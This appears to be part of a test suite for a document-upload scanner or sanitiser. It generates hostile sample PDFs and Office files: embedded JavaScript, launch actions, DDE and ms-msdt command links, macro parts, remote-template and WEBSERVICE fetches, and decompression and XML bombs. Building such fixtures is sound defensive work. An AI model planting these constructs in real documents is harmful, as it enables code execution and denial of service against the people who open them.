    yield "a script in packed objects", "x.pdf", lambda: packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>")
    yield "a launch in packed objects", "x.pdf", lambda: packed_pdf(b"<</A[<</S /L#61unch/F(calc.exe)>>]>>")
    yield "packed objects that unpack", "x.pdf", lambda: packed_pdf(b" " * 60_000_000)
    yield (
        "packed objects under packing",
        "x.pdf",
        lambda: packed_pdf(b"x", filters="[/FlateDecode /FlateDecode /FlateDecode]"),
    )
    yield "a PDF with an archive behind it", "x.pdf", lambda: pdf() + zipped({"x.exe": PROGRAM})
    yield (
        "a PDF with an archive inside",
        "x.pdf",
        (lambda: pdf() + zipped({"x.exe": PROGRAM})[:-2] + b"\x07\x00\n%%EOF\n"),
    )
    yield (
        "a PDF with one archive of several behind it",
        "x.pdf",
        lambda: pdf() + struct.pack("<4sLQL4s16xH", b"PK\x06\x07", 0, 0, 2, b"PK\x05\x06", 7) + b"\n%%EOF\n",
    )
    yield "a PDF behind something", "x.pdf", lambda: b"<script>alert(1)</script>\n" + pdf()
    yield "a PDF cut short", "x.pdf", lambda: pdf()[:-30]
    yield "a PDF with nothing in it", "x.pdf", lambda: b"%PDF-1.7\n%%EOF\n"
    yield (
        "a PDF that leads back to itself",
        "x.pdf",
        (
            lambda: (
                b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\ntrailer<</Root 1 0 R/Size 2"
                b"/Prev 9>>\nstartxref\n9\n%%EOF\n"
            )
        ),
    )
    yield "a PDF of a million objects", "x.pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj<<>>endobj\n" * 1_000_000 + b"%%EOF\n"
    yield (
        "a PDF of a million brackets",
        "x.pdf",
        (
            lambda: (
                b"%PDF-1.7\n1 0 obj"
                + b"[" * 1_000_000
                + b"endobj\ntrailer<</Root 1 0 R/Size 2>>\nstartxref\n9\n%%EOF\n"
            )
        ),
    )
    # Documents of office programs.
    yield "macros in a document", "x.docx", lambda: with_parts(document(), **{"word__vbaProject.bin": b"x"})
    yield "a macro document called a plain one", "x.docx", lambda: changed(
        document(), "[Content_Types].xml",
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )  # fmt: skip
    yield "an embedded object", "x.docx", lambda: with_parts(document(), **{"word__embeddings__oleObject1.bin": b"x"})
    yield "a control", "x.docx", lambda: with_parts(document(), **{"word__activeX__activeX1.bin": b"x"})
    yield "a program in a document", "x.docx", lambda: with_parts(document(), **{"word__media__x.exe": PROGRAM})
    yield "a page in a document", "x.docx", lambda: with_parts(document(), **{"word__afchunk.mht": b"x"})
    yield "a template from elsewhere", "x.docx", lambda: related("attachedTemplate", "http://127.0.0.1:9/x.dotm")
    yield "a picture from elsewhere", "x.docx", lambda: related("image", "http://127.0.0.1:9/x.png")
    yield "a picture from a share", "x.docx", lambda: related("image", "\\\\127.0.0.1\\x\\x.png")
    yield "a frame from elsewhere", "x.docx", lambda: related("frame", "http://127.0.0.1:9/x.html")
    yield "a link that runs", "x.docx", lambda: related("hyperlink", "javascript:alert(1)")
    yield "a link to a file", "x.docx", lambda: related("hyperlink", "file:///c:/windows/system32/calc.exe")
    yield "a link to a handler", "x.docx", lambda: related("hyperlink", "ms-msdt:/id PCWDiagnostic")
    yield "an object from elsewhere", "x.docx", lambda: related("oleObject", "mhtml:http://127.0.0.1:9/x!x-usc:x")
    yield (
        "a field that starts a program",
        "x.docx",
        (lambda: text_with("<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>")),
    )
    yield (
        "a field in pieces",
        "x.docx",
        (
            lambda: text_with(
                "<w:p><w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE x</w:instrText></w:r></w:p>"
            )
        ),
    )
    yield (
        "a field that fetches",
        "x.docx",
        (lambda: text_with("<w:fldSimple w:instr=' INCLUDEPICTURE \"http://127.0.0.1:9/\" '/>")),
    )
    yield (
        "a billion laughs in a document",
        "x.docx",
        lambda: changed(document(), "word/document.xml", b"<w:document", _LAUGHS + b"<w:document"),
    )
    yield "a bomb in a document", "x.docx", lambda: with_parts(document(), **{"word__media__x.png": bytes(40_000_000)})
    yield (
        "five million tags in a document",
        "x.docx",
        lambda: changed(document(), "word/document.xml", b"<w:p>", b"<a/>" * 5_000_000 + b"<w:p>"),
    )
    yield "an archive in a document", "x.docx", lambda: with_parts(document(), **{"word__embeddings__x.zip": nested(2)})
    yield (
        "a workbook with macros behind a chart",
        "x.docx",
        lambda: with_parts(
            document(), **{"word__embeddings__x.xlsx": with_parts(workbook(), **{"xl__vbaProject.bin": b"x"})}
        ),
    )
    yield (
        "workbooks in workbooks",
        "x.docx",
        lambda: with_parts(
            document(),
            **{"word__embeddings__x.xlsx": with_parts(workbook(), **{"xl__embeddings__y.xlsx": workbook()})},
        ),
    )
    yield "a sheet of old macros", "x.xlsx", lambda: changed(
        workbook(), "[Content_Types].xml", b"</Types>",
        b'<Override PartName="/xl/macrosheets/s.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
    )  # fmt: skip
    yield "a cell that starts a program", "x.xlsx", lambda: formula("=cmd|' /C calc'!A0")
    yield "a cell that fetches", "x.xlsx", lambda: formula('=WEBSERVICE("http://127.0.0.1:9/"&A1)')
    yield (
        "links between workbooks",
        "x.xlsx",
        lambda: with_parts(workbook(), **{"xl__externalLinks__externalLink1.xml": b"<externalLink/>"}),
    )
    yield "a slide that starts a program", "x.pptx", lambda: changed(
        deck(), "ppt/slideLayouts/slideLayout1.xml", b"</p:spTree>",
        b'<p:sp><p:nvSpPr><p:cNvPr id="99" name="x"><a:hlinkClick action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>'
        b"</p:spTree>",
    )  # fmt: skip
    yield "macros in a deck", "x.pptx", lambda: with_parts(deck(), **{"ppt__vbaProject.bin": b"x"})
